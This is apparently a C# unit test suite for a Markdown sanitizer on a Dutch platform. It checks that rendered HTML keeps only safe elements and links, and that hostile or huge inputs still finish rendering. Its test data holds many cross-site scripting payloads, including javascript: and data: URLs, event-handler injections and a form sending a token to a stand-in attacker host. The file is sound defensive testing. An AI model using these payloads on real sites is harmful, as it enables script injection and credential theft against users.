using AngleSharp.Dom;
using AngleSharp.Html.Parser;
using CsCheck;
using Netwerkplatform.Platform.Documents;
using Netwerkplatform.Platform.Validation;

namespace Netwerkplatform.Tests.Protocols;

/// <summary>Whatever somebody writes as the text of a protocol, what a page gets is a few harmless elements.</summary>
public sealed class MarkdownTests
{
    private static readonly string[] Allowed =
        ["p", "br", "hr", "h2", "h3", "h4", "h5", "h6", "ul", "ol", "li", "blockquote", "strong", "em", "code", "pre", "a", "table",
            "thead", "tbody", "tr", "th", "td"];

    /// <summary>As a browser would read it.</summary>
    private static IElement[] Elements(string html) =>
        [.. new HtmlParser().ParseDocument($"<!doctype html><body><div id=hier>{html}</div>")
        .QuerySelector("#hier")!.QuerySelectorAll("*")];

    private static void AssertHarmless(string html)
    {
        foreach (var element in Elements(html))
        {
            Assert.Contains(element.LocalName, Allowed);
            foreach (var attribute in element.Attributes)
            {
                if (element.LocalName == "ol" && attribute.Name == "start") continue;
                Assert.True(element.LocalName == "a" && attribute.Name is "href" or "rel", $"<{element.LocalName} {attribute.Name}>");
                if (attribute.Name == "href") Assert.Matches("^(https?://|mailto:)", attribute.Value.ToLowerInvariant());
                if (attribute.Name == "rel") Assert.Equal("noopener noreferrer nofollow", attribute.Value);
            }
            if (element.LocalName == "a") Assert.True(element.HasAttribute("rel"));
        }
    }

    [Fact]
    public void What_people_write_becomes_what_they_mean()
    {
        var html = Markdown.Html(
            "# Delen\n\nWe delen **niet meer** dan *nodig* is, zie [de wet](https://wetten.example/art?x=1&y=2).\n\n### Wie\n\n1. een\n"
                + "2. twee\n\n> citaat\n\n`code`\n\n| a | b |\n|---|--:|\n| 1 | 2 |\n\nMail <info@almere.example>.");
        AssertHarmless(html);
        foreach (var deel in new[]
        {
            "<h2>Delen</h2>", "<strong>niet meer</strong>", "<em>nodig</em>",
                "<a href=\"https://wetten.example/art?x=1&amp;y=2\" rel=\"noopener noreferrer nofollow\">de wet</a>", "<h3>Wie</h3>",
            "<li>een</li>", "<blockquote>", "<code>code</code>", "<td>1</td>", "<a href=\"mailto:info@almere.example\"",
        }) Assert.Contains(deel, html, StringComparison.Ordinal);
    }

    [Theory]
    [InlineData("<script>alert(1)</script>")]
    [InlineData("<ScRiPt src=//kwaad.example/x.js></sCrIpT>")]
    [InlineData("<img src=x onerror=alert(1)>")]
    [InlineData("<svg onload=alert(1)><script>alert(1)</script></svg>")]
    [InlineData("<svg><style><img src=x onerror=alert(1)></style></svg>")]
    [InlineData("<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">")]
    [InlineData("<iframe srcdoc='<script>parent.alert(1)</script>'></iframe>")]
    [InlineData("<style>body{background:url(https://kwaad.example/x)}</style>")]
    [InlineData("<p style=\"position:fixed\" onclick=\"alert(1)\">tekst</p>")]
    [InlineData("<form action=https://kwaad.example><input name=token><button>ok</button></form>")]
    [InlineData("<meta http-equiv=refresh content=\"0;url=https://kwaad.example\"><base href=https://kwaad.example/>")]
    [InlineData("<!-- --><img src=x onerror=alert(1)> -->")]
    [InlineData("<a href=\"https://goed.example\" onmouseover=\"alert(1)\">x</a>")]
    [InlineData("[x](javascript:alert(1))")]
    [InlineData("[x](JaVaScRiPt&#58;alert(1))")]
    [InlineData("[x](&#106;avascript:alert(1))")]
    [InlineData("[x](java&Tab;script:alert(1))")]
    [InlineData("[x](<java\nscript:alert(1)>)")]
    [InlineData("[x](<\u0001javascript:alert(1)>)")]
    [InlineData("[x](vbscript:msgbox(1))")]
    [InlineData("[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)")]
    [InlineData("[x](blob:https://kwaad.example/1) [y](file:///etc/passwd) [z](//kwaad.example) [w](/beheer/jobs) [v](#x) [u](..\\x)")]
    [InlineData("[x]\n\n[x]: javascript:alert(1) 'titel'")]
    [InlineData("[x][y]\n\n[y]: <data:image/svg+xml,<svg/onload=alert(1)>>")]
    [InlineData("<javascript:alert(1)> <data:text/html,x> <vbscript:x>")]
    [InlineData("javascript:alert(1)")]
    [InlineData("![alt](https://kwaad.example/pixel.gif)")]
    [InlineData("![alt](javascript:alert(1)) ![alt](data:image/svg+xml,<svg/onload=alert(1)>)")]
    [InlineData("[![alt](https://kwaad.example/pixel.gif)](javascript:alert(1))")]
    [InlineData("![a\" onerror=\"alert(1)](x)")]
    [InlineData("[a](https://goed.example/\" onmouseover=\"alert(1))")]
    [InlineData("[a](https://goed.example 'x\" onmouseover=\"alert(1)')")]
    [InlineData("https://goed.example/\"onmouseover=\"alert(1)")]
    [InlineData("```html\" onclick=\"alert(1)\n<script>alert(1)</script>\n```")]
    [InlineData("# kop {onclick=alert(1) #id .klas}")]
    [InlineData("&lt;script&gt;alert(1)&lt;/script&gt;")]
    [InlineData("`<script>alert(1)</script>`")]
    public void Nothing_that_acts_or_fetches_gets_through(string tekst)
    {
        var html = Markdown.Html(tekst);
        AssertHarmless(html);
        Assert.DoesNotContain("<img", html, StringComparison.OrdinalIgnoreCase);
        Assert.DoesNotContain("<script", html, StringComparison.OrdinalIgnoreCase);
        // Once more through the same is the same: nothing in it waits to be read as something else.
        AssertHarmless(new HtmlParser().ParseDocument(html).Body!.InnerHtml);
    }

    [Fact]
    public void A_picture_is_what_it_shows_in_words_and_html_is_shown_as_it_was_typed()
    {
        Assert.Equal("<p>Zie Schema van het netwerk hier.</p>",
            Markdown.Html("Zie ![Schema van het netwerk](https://elders.example/x.png) hier.").Trim());
        Assert.Contains("&lt;b&gt;let op&lt;/b&gt;", Markdown.Html("<b>let op</b>"), StringComparison.Ordinal);
    }

    [Theory]
    [InlineData("# een\n\n###### zes\n\n# weer een\n\n### drie", "h2 h3 h2 h3")]
    [InlineData("###### zes", "h2")]
    [InlineData("# 1\n\n## 2\n\n### 3\n\n#### 4\n\n##### 5\n\n###### 6", "h2 h3 h4 h5 h6 h6")]
    public void Headings_leave_the_first_level_to_the_page_and_skip_none(string tekst, string koppen) =>
        Assert.Equal(koppen, string.Join(' ', Elements(Markdown.Html(tekst)).Select(e => e.LocalName)
            .Where(n => Regex.IsMatch(n, "^h[1-6]$"))));

    public static TheoryData<string> Bombs => new(new[]
    {
        ">", "> ", "- ", "1. ", "* ", "[", "![", "](", "[a](", "*a ", "**", "_", "*_", "`", "``a`", "<", "</", "<a:", "&", "\\", "|", "|-",
            "a|\n-|\n", "\n>", "[a]: b\n", "[a\n", "~", "#", "==\n", "((", "[]", "[](", "`a``", "*a_ ", "http://", "a@b.", "<!--",
    });

    [Theory]
    [MemberData(nameof(Bombs))]
    [Trait("Category", "Slow")]
    public void A_bomb_of_one_thing_a_hundred_thousand_characters_long_ends(string stuk)
    {
        var tekst = string.Concat(Enumerable.Repeat(stuk, 100_000 / stuk.Length));
        AssertHarmless(Markdown.Html(tekst));
        var half = string.Concat(Enumerable.Repeat(stuk, 10_000 / stuk.Length));
        AssertHarmless(Markdown.Html($"{half}a{new string(')', 5_000)}{new string(']', 5_000)}"));
    }

    [Fact]
    public void Lists_and_quotes_within_each_other_end_however_deep()
    {
        AssertHarmless(Markdown.Html(string.Join('\n', Enumerable.Range(0, 440).Select(n => $"{new string(' ', n)}- a"))));
        AssertHarmless(Markdown.Html(string.Concat(Enumerable.Range(0, 5_000).Select(n => n % 2 == 0 ? "> " : "- ")) + "a"));
        AssertHarmless(Markdown.Html(string.Concat(Enumerable.Repeat("*a **b ", 5_000))
            + string.Concat(Enumerable.Repeat("c** d*", 5_000))));
        // As deep as anyone reads stays what it is.
        Assert.Equal(10, Elements(Markdown.Html($"{string.Concat(Enumerable.Repeat("> ", 10))}a")).Count(e => e.LocalName == "blockquote"));
    }

    [Theory]
    [InlineData("[a](", 25_000)]
    [InlineData("- a\n", 25_000)]
    [InlineData("# a\n", 25_000)]
    [InlineData("---\n", 25_000)]
    [InlineData("a\n\n", 33_000)]
    [InlineData("> - ", 5_000)]
    [InlineData("|a|b|\n|-|-|\n|1|2|\n\n", 4_000)]
    public void What_takes_more_work_than_its_length_is_told_apart_by_counting(string stuk, int keer)
    {
        var tekst = string.Concat(Enumerable.Repeat(stuk, keer));
        Assert.False(Markdown.TryHtml(tekst, out _));
        Assert.StartsWith("<p>", Markdown.Html(tekst), StringComparison.Ordinal);
    }

    [Fact]
    public void Forty_pages_as_people_write_them_are_not_too_much()
    {
        var tekst = string.Concat(Enumerable.Range(0, 230).Select(n =>
            $"# Kop {n}\n\nWe delen **niet meer** dan *nodig* is, zie [de wet](https://wetten.example/{n}).\n"
                + $"{string.Concat(Enumerable.Repeat("Wie iets merkt, belt. ", 12))}\n\n- een\n- twee\n- drie\n\n| a | b |\n|---|---|\n| "
                + $"1 | 2 |\n\n"));
        Assert.InRange(tekst.Length, 80_000, 100_000);
        Assert.True(Markdown.TryHtml(tekst, out var html));
        Assert.Contains("<h2>Kop 190</h2>", html, StringComparison.Ordinal);
    }

    [Fact]
    public async Task Who_read_one_text_at_the_same_moment_share_one_making()
    {
        using var markdown = new Markdown();
        var tekst = string.Concat(Enumerable.Repeat("We delen niet meer dan **nodig** is.\n\n", 1_000));
        var made = await Task.WhenAll(Enumerable.Range(0, 20).Select(_ => Task.Run(() => markdown.HtmlAsync(tekst))));
        Assert.All(made, html => Assert.Same(made[0], html));
        Assert.Same(made[0], await markdown.HtmlAsync(tekst));
    }

    [Theory]
    [InlineData("111**222**333", true)]
    [InlineData("111222&#51;&#51;&#51;", true)]
    [InlineData("``111`222`333``", false)]
    [InlineData("111`222`333", true)]
    [InlineData("11122[2333](http://x.nl)", true)]
    [InlineData("111222\n333", true)]
    [InlineData("111222  \n333", true)]
    [InlineData("[x](http://x.nl/111222&#51;&#51;&#51;)", true)]
    [InlineData("```\n111\n222\n333\n```", false)]
    [InlineData("geb. **12**-*03*-2008", true)]
    [InlineData("- 111\n- 222\n- 333", false)]
    [InlineData("| 111 | 222 | 333 |\n|---|---|---|\n| a | b | c |", false)]
    [InlineData("111\n\n222\n\n333", false)]
    public void What_is_read_is_what_the_guard_looks_at(string tekst, bool persoonsgegevens) =>
        Assert.Equal(persoonsgegevens, Persoonsgegevens.In(Markdown.Leestekst(Markdown.Html(tekst))));

    private static readonly string[] Stukken =
    [
        "<script>", "</script>", "<img src=x onerror=alert(1)>", "<svg onload=x>", "[", "]", "(", ")", "![", "](", "javascript:",
            "data:text/html,", "https://a.example", "&#58;", "&colon;", "\"", "'", "<", ">", "`", "```\n",
        "\n", "\n\n", "> ", "- ", "# ", "| ", "|--|\n", "*", "**", "_", "\\", "[a]: ", "&lt;", "<!--", "-->", "<![CDATA[", "]]>",
            " onclick=", "style=", "\u0000", "\u2028", "é", "a", " ",
    ];

    [Fact]
    public void No_mixture_of_them_gets_through() =>
        Gen.Int[0, Stukken.Length - 1].Select(i => Stukken[i]).Array[0, 40].Select(string.Concat)
            .Sample(tekst => AssertHarmless(Markdown.Html(tekst)), iter: 5_000);
}
